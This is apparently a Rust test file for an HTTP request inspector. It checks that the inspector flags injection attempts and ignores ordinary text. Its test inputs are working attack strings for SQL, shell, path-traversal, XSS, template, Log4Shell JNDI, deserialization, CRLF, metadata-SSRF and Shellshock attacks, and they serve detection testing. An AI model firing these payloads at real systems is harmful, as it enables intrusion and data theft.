use super::*;
use crate::transcript::exchange;
use crate::{Config, Inspector, TokenKey};

fn attempts(request: &str, response: &str) -> Vec<(AttemptKind, String, bool, Evidence)> {
    let mut inspector = Inspector::new(Config::new(TokenKey::new([7; 32])));
    let observation = inspector.exchange(exchange(1, request.as_bytes(), response.as_bytes()));
    let found = observation.attempts.into_iter().flatten();
    found.map(|one| (one.kind, one.name.to_string(), one.sure, one.evidence)).collect()
}

fn query(value: &str) -> Vec<AttemptKind> {
    let encoded: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let request = format!("GET /items?q={encoded} HTTP/1.1\r\nHost: shop\r\n\r\n");
    attempts(&request, "").into_iter().filter(|(_, _, sure, _)| *sure).map(|(kind, ..)| kind).collect()
}

#[test]
fn each_kind_is_told_by_its_language() {
    use AttemptKind::*;
    for (value, kind) in [
        ("' or '1'='1", Sql),
        ("1 OR 1=1", Sql),
        ("x' UNION ALL SELECT 1,username,3 FROM users--", Sql),
        ("admin'--", Sql),
        ("1; DROP TABLE users", Sql),
        ("1' AND SLEEP(5)#", Sql),
        ("1' || pg_sleep(5)-- -", Sql),
        ("x'/**/union/**/select/**/1--", Sql),
        ("; cat /etc/hostname", Command),
        ("a && whoami", Command),
        ("$(id)", Command),
        ("../../../../etc/passwd", Path),
        ("....//....//etc/passwd", Path),
        ("<script>alert(1)</script>", Script),
        ("\"><img src=x onerror=alert(1)>", Script),
        ("{{7*7}}", Template),
        ("${7*191}", Template),
        ("{{''.__class__.__mro__}}", Template),
        ("*)(uid=*))(|(uid=*", Ldap),
        ("${jndi:ldap://x.test/a}", Lookup),
        ("${${lower:j}ndi:ldap://x.test/a}", Lookup),
        ("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==", Object),
        ("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", Object),
        ("x\r\nSet-Cookie: a=b", Line),
        ("http://169.254.169.254/latest/meta-data/", Fetch),
        ("__import__('os').system('id')", Code),
    ] {
        assert!(query(value).contains(&kind), "{value}: {:?}", query(value));
    }
}

#[test]
fn what_people_write_is_no_attempt() {
    for value in [
        "O'Brien",
        "Union Jack",
        "select a table from our shop",
        "order by Friday; thanks",
        "it's -- well -- fine",
        "Tom & Jerry (2021)",
        "3 > 2 and 2 < 3",
        "{\"name\":\"x\",\"tags\":[\"a\"]}",
        "SELECT your size",
        "a=1; b=2",
        "https://cdn.shop.example/a.png?w=10",
        "C:\\Users\\jane\\cv.pdf",
        "50% off; ends today",
        "name eq 'x' and price gt 5",
        "id; name; sku",
        "drop me a line",
        "5' 11\" tall",
        "rock 'n' roll",
        "let's see, or not",
        "sleep(8) hours mask",
    ] {
        assert_eq!(query(value), [], "{value}");
    }
}

#[test]
fn values_of_every_place_are_looked_at() {
    let json = r#"{"user":{"$ne":null},"cmd":"; id","note":"it's \"fine\""}"#;
    let request = format!(
        "POST /a/%27%20or%20%271%27%3D%271 HTTP/1.1\r\nHost: shop\r\nX-Tenant: ${{jndi:ldap://x/a}}\r\nCookie: theme=../../../etc/passwd\r\n\
         User-Agent: () {{ :; }}; /bin/bash -c id\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{json}",
        json.len()
    );
    let found: Vec<(AttemptKind, String)> =
        attempts(&request, "").into_iter().map(|(kind, name, ..)| (kind, name)).collect();
    for wanted in [
        (AttemptKind::Sql, ""),
        (AttemptKind::Lookup, "x-tenant"),
        (AttemptKind::Path, "theme"),
        (AttemptKind::Command, "cmd"),
        (AttemptKind::NoSql, "user"),
        (AttemptKind::Command, "user-agent"),
    ] {
        assert!(found.iter().any(|(kind, name)| (*kind, name.as_str()) == wanted), "{wanted:?} of {found:?}");
    }
}

#[test]
fn strings_in_a_document_of_graphql_are_values() {
    let json = r#"{"query":"query { systemDebug(arg: \"; id\") { a } }"}"#;
    let request = format!(
        "POST /graphql HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{json}",
        json.len()
    );
    let found = attempts(&request, "");
    assert!(found.iter().any(|(kind, ..)| *kind == AttemptKind::Command), "{found:?}");
    let json =
        r#"{"query":"query Q($id: ID!) { a(id: $id, where: {x: {gt: 1}}) { ...F } } fragment F on A { b }"}"#;
    let request = format!(
        "POST /graphql HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{json}",
        json.len()
    );
    assert_eq!(attempts(&request, ""), []);
}

#[test]
fn answers_say_what_became_of_it() {
    let get = |value: &str| format!("GET /items?q={value} HTTP/1.1\r\nHost: shop\r\n\r\n");
    let answer = |kind: &str, body: &str| {
        format!("HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}", body.len())
    };
    let evidence = |value: &str, response: &str| attempts(&get(value), response).first().map(|one| one.3);
    assert_eq!(
        evidence("%27%20or%20%271%27=%271", &answer("text/plain", "sqlite3.OperationalError: near")),
        Some(Evidence::Error)
    );
    assert_eq!(
        evidence("../../../etc/passwd", &answer("text/plain", "root:x:0:0:root:/root")),
        Some(Evidence::Shown)
    );
    assert_eq!(evidence("%7B%7B191*7%7D%7D", &answer("text/html", "Hello 1337")), Some(Evidence::Shown));
    assert_eq!(
        evidence("%3Cscript%3Ealert(1)%3C/script%3E", &answer("text/html", "Hi <script>alert(1)</script>")),
        Some(Evidence::Reflected)
    );
    assert_eq!(
        evidence("%3Cscript%3Ealert(1)%3C/script%3E", &answer("text/html", "Hi &lt;script&gt;")),
        Some(Evidence::None)
    );
}
